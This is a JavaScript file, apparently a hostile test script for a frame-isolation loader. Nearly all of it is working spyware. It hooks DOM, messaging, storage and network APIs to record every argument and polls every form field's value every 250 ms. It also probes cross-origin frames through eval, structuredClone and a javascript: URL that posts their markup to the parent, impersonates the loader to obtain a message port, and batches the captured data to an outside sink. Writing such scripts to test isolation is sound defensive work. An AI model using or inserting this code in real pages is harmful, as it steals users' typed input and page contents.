// A script that means harm and runs first: it puts itself between the page and whatever could carry an answer (shadow
// roots, frames and their markup, ports and messages, requests, JSON, listeners, observers), keeps every argument it
// sees, reaches into each frame, and speaks to it as if it were the loader.
import { eachWindow, eventTypes, inWords, sending } from "./reach.js";

/** @type {unknown[]} */
const kept = [];
/** @type {ShadowRoot[]} */
const roots = [];
const flush = sending(kept, SINK);
const before = { stringify: JSON.stringify, add: EventTarget.prototype.addEventListener, Channel: MessageChannel };
const once = new Set();

/** Keeps what was seen, in words, and each thing once. @param {string} where @param {...unknown} what */
function keep(where, ...what) {
  const words = what.map(say).join(" ");
  const all = `${where}: ${words}`;
  if (words && !once.has(all)) once.add(all) && kept.push(all);
}

/** @param {unknown} what @returns {string} */
function say(what) {
  try {
    if (typeof what === "string") return what;
    if (what instanceof Event) return before.stringify(inWords(what));
    if (what instanceof Node) return /** @type {any} */ (what).outerHTML ?? what.textContent ?? "";
    if (ArrayBuffer.isView(what)) return new TextDecoder("latin1").decode(what);
    return before.stringify(what) ?? "";
  } catch {
    return "";
  }
}

/** Puts a spy before a method, or before a setter. @param {any} owner @param {string} name */
function spy(owner, name) {
  const found = Object.getOwnPropertyDescriptor(owner ?? {}, name);
  if (!found?.configurable) return;
  const where = `${owner[Symbol.toStringTag] ?? owner.constructor?.name}.${name}`;
  for (const key of /** @type {const} */ (["value", "set"])) {
    const own = found[key];
    if (typeof own !== "function") continue;
    found[key] = function (/** @type {unknown[]} */ ...given) {
      keep(where, ...given);
      const answer = Reflect.apply(own, this, given);
      if (typeof answer === "string" || answer?.constructor === Object) keep(`${where} gave`, answer);
      return answer;
    };
  }
  Object.defineProperty(owner, name, found);
}

for (const [owner, names] of /** @type {[any, string[]][]} */ ([
  [HTMLIFrameElement.prototype, ["src", "srcdoc", "contentWindow", "contentDocument", "name", "sandbox"]],
  [Element.prototype, ["setAttribute", "append", "prepend", "replaceChildren", "insertAdjacentHTML", "innerHTML", "after", "before", "replaceWith"]],
  [Node.prototype, ["appendChild", "insertBefore", "replaceChild", "textContent", "nodeValue"]],
  [CharacterData.prototype, ["data", "appendData"]],
  [HTMLInputElement.prototype, ["value", "checked"]],
  [HTMLTextAreaElement.prototype, ["value"]],
  [MessagePort.prototype, ["postMessage", "start", "close"]],
  [BroadcastChannel.prototype, ["postMessage"]],
  [Worker.prototype, ["postMessage"]],
  [JSON, ["parse", "stringify"]],
  [EventTarget.prototype, ["dispatchEvent"]],
  [XMLHttpRequest.prototype, ["open", "send", "setRequestHeader"]],
  [Storage.prototype, ["setItem", "getItem"]],
  [Navigator.prototype, ["sendBeacon"]],
  [History.prototype, ["pushState", "replaceState"]],
  [CSSStyleDeclaration.prototype, ["setProperty"]],
  [TextDecoder.prototype, ["decode"]],
  [TextEncoder.prototype, ["encode"]],
  [Response.prototype, ["text", "json", "arrayBuffer"]],
  [console, ["log", "info", "warn", "error"]],
  // Where a frame may call it, it would be this script that speaks, and the loader would not know its frame any more.
  [window, /** @type {any} */ (window).wallsDown ? [] : ["postMessage"]],
  [window, ["fetch", "structuredClone", "setTimeout", "requestAnimationFrame", "open", "atob", "btoa"]],
])) for (const name of names) spy(owner, name);

const attachShadow = Element.prototype.attachShadow;
Element.prototype.attachShadow = function (/** @type {ShadowRootInit} */ init) {
  const root = attachShadow.call(this, init);
  roots.push(root);
  return root;
};

/** Wraps a listener, so that what it is told is kept first. @param {any} listener @param {string} type */
const wrapped = (listener, type) => typeof listener !== "function" ? listener : /** @this {any} */ function (/** @type {any} */ event) {
  keep(`heard ${type}`, event, event?.data, event?.detail);
  return Reflect.apply(listener, this, [event]);
};
EventTarget.prototype.addEventListener = function (/** @type {string} */ type, /** @type {any} */ listener, /** @type {any} */ options) {
  return before.add.call(this, type, wrapped(listener, type), options);
};
const onmessage = /** @type {PropertyDescriptor} */ (Object.getOwnPropertyDescriptor(MessagePort.prototype, "onmessage"));
Object.defineProperty(MessagePort.prototype, "onmessage", {
  ...onmessage,
  set(listener) {
    onmessage.set?.call(this, wrapped(listener, "message on a port"));
  },
});
for (const name of /** @type {const} */ (["CustomEvent", "MessageEvent", "MessageChannel", "IntersectionObserver", "ResizeObserver", "MutationObserver", "Blob", "Worker", "CSSStyleSheet"])) {
  const Own = /** @type {any} */ (window)[name];
  /** @type {any} */ (window)[name] = new Proxy(Own, {
    construct(target, given, as) {
      keep(`new ${name}`, ...given);
      const made = Reflect.construct(target, given.map((one) => typeof one === "function" ? (/** @type {unknown[]} */ ...told) => (keep(`${name} told`, ...told), one(...told)) : one), as);
      if (name === "MessageChannel") for (const port of [made.port1, made.port2]) before.add.call(port, "message", (event) => keep("on a port", event, /** @type {any} */ (event).data));
      return made;
    },
  });
}

// Into each window that lets it in: its markup once, then all words and fields in sight, each time it looks, and all events.
const types = eventTypes();
eachWindow((place) => {
  for (const type of types) before.add.call(place, type, (event) => keep("event", inWords(event), /** @type {any} */ (event).data), true);
  keep("markup", place.document.documentElement?.outerHTML);
  setInterval(() => {
    const root = place.document?.documentElement;
    if (!root) return;
    keep("words", root.innerText);
    for (const field of root.querySelectorAll("input, textarea, select")) keep("field", field.outerHTML, field.value, field.checked);
  }, 250);
}, () => roots);

// And at those that don't: whatever a window of another origin still shows, and whatever answers when it is spoken to.
setInterval(() => {
  for (const frame of [document, ...roots].flatMap((root) => [...root.querySelectorAll("iframe")])) {
    for (const name of ["contentDocument", "srcdoc", "name", "src", "title"]) attempt(`frame ${name}`, () => /** @type {any} */ (frame)[name]);
    if (frame.contentDocument) continue;
    attempt("getSVGDocument", () => frame.getSVGDocument());
    const place = /** @type {any} */ (frame.contentWindow);
    for (const inside of [place, place?.[0], place?.frames?.[0]?.[0]]) {
      for (const name of ["document", "name", "location", "history", "localStorage", "origin", "getSelection", "performance", "navigator", "length", "closed", "opener", "frameElement"]) attempt(`window ${name}`, () => inside?.[name]?.href ?? inside?.[name]);
      attempt("clone", () => structuredClone(inside?.document));
      attempt("keys", () => Reflect.ownKeys(inside ?? {}).map(String));
      attempt("eval", () => inside.eval("document.documentElement.outerHTML"));
      attempt("its prototype", () => inside.Object.prototype);
      attempt("script in it", () => (inside.location = "javascript:parent.postMessage(document.documentElement.outerHTML,'*')"));
    }
  }
}, 200);

/** @param {string} name @param {() => unknown} act */
function attempt(name, act) {
  try {
    keep(name, act());
  } catch {
    // It was kept out, as it should be.
  }
}

// The loader has its port by now; this one asks for another, as the loader would, and for a summary.
before.add.call(window, "message", (event) => {
  const { source, data } = /** @type {MessageEvent} */ (event);
  if (!data?.quietCheck || !source) return;
  const ask = () => {
    const { port1, port2 } = new before.Channel();
    port1.onmessage = (/** @type {MessageEvent} */ answer) => keep("a port of its own", answer.data);
    /** @type {any} */ (source).postMessage({ quietCheck: 1 }, "*", [port2]);
    for (const message of [{ type: "ping" }, { type: "share", on: true }, { type: "theme", theme: "auto" }, "dump"]) port1.postMessage(message);
    for (const inside of [source, /** @type {any} */ (source)[0]]) attempt("speaks to it", () => inside.postMessage(["again", "hello"], "*"));
  };
  setTimeout(ask, 1000);
  setTimeout(ask, 3000);
});

Object.assign(window, { recorder: { kept, flush, ready: () => true } });
